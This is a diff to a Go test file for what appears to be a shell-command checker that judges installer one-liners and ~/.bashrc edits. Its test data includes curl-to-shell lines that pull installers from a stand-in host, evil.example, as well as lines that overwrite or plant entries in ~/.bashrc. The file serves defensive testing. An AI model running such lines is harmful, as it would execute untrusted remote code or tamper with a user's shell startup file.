@@ -97,6 +97,7 @@ func TestInstallersOfToolchains(t *testing.T) {
 		/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"
 		bash <(curl https://raw.githubusercontent.com/rhysd/actionlint/main/scripts/download-actionlint.bash)
 		curl -sSfL https://raw.githubusercontent.com/golangci/golangci-lint/v2.12.2/install.sh | sh -s -- -b $(go env GOPATH)/bin
+		sh <(curl -L https://nixos.org/nix/install) --daemon
 		wget -qO- https://raw.githubusercontent.com/nvm-sh/nvm/v0.40.1/install.sh | bash
 		curl -fsSL https://bun.sh/install | bash -s -- "bun-v${BUN_VERSION}"
 	`)
@@ -118,6 +119,7 @@ func TestInstallersOfToolchains(t *testing.T) {
 		curl https://sh.rustup.rs | sh -s -- $ARGS
 		curl https://sh.rustup.rs | sudo sh
 		curl -sSL https://install.python-poetry.org | python3 - --git https://evil.example/x.git@main
+		sh <(curl -L https://nixos.org/nix/install) --tarball-url-prefix http://evil.example
 		curl -L https://nixos.org/nix/install | sh -s -- --tarball-url-prefix http://evil.example
 		curl https://raw.githubusercontent.com/nvm-sh/nvm/deadbeefdeadbeefdeadbeefdeadbeefdeadbeef/install.sh | bash
 		curl https://raw.githubusercontent.com/nvm-sh/nvm/v1/../../../evil/x/main/install.sh | bash
@@ -138,7 +140,7 @@ func TestPlainLinesForAShell(t *testing.T) {
 	judge := verdicts(t)
 	asks(t, judge, false, `
 		echo 'export PATH="$HOME/gems/bin:$PATH"' >> ~/.bashrc
-		echo '# Install Ruby Gems to ~/gems' >> ~/.bashrc
+		printf '# Ruby\nexport PATH="$HOME/gems/bin:$PATH"\n' >> ~/.bashrc
 		echo 'export GEM_HOME="$HOME/gems"' >> ~/.bashrc
 		echo 'eval "$(ruff generate-shell-completion bash)"' >> ~/.bashrc
 		echo 'eval "$(~/.local/bin/mise activate bash)"' >> ~/.bashrc
@@ -147,6 +149,7 @@ func TestPlainLinesForAShell(t *testing.T) {
 	`)
 	asks(t, judge, true, `
 		echo 'export PATH="$HOME/gems/bin:$PATH"' > ~/.bashrc
+		echo '# somebody was here' >> ~/.bashrc
 		echo 'export PATH="/tmp/x:$PATH"' >> ~/.bashrc
 		echo 'export PATH="$PWD/bin:$PATH"' >> ~/.bashrc
 		echo 'export PATH="/home/ada/src/bin:$PATH"' >> ~/.bashrc
